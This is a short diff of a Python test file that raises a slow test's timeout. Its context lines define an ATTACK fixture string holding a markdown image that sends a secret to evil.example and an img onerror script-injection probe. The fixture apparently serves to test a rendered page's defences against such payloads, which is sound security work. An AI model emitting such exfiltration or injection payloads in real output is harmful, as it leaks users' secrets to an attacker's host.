@@ -10,7 +10,7 @@ from test_page import part, say
 
 from serving import Serving
 
-pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(400)]
 Open = Callable[..., Page]
 ATTACK = """![secret](https://evil.example/p.png?q=SECRET) <img src=https://evil.example/i.png onerror="window.hit=1">
 
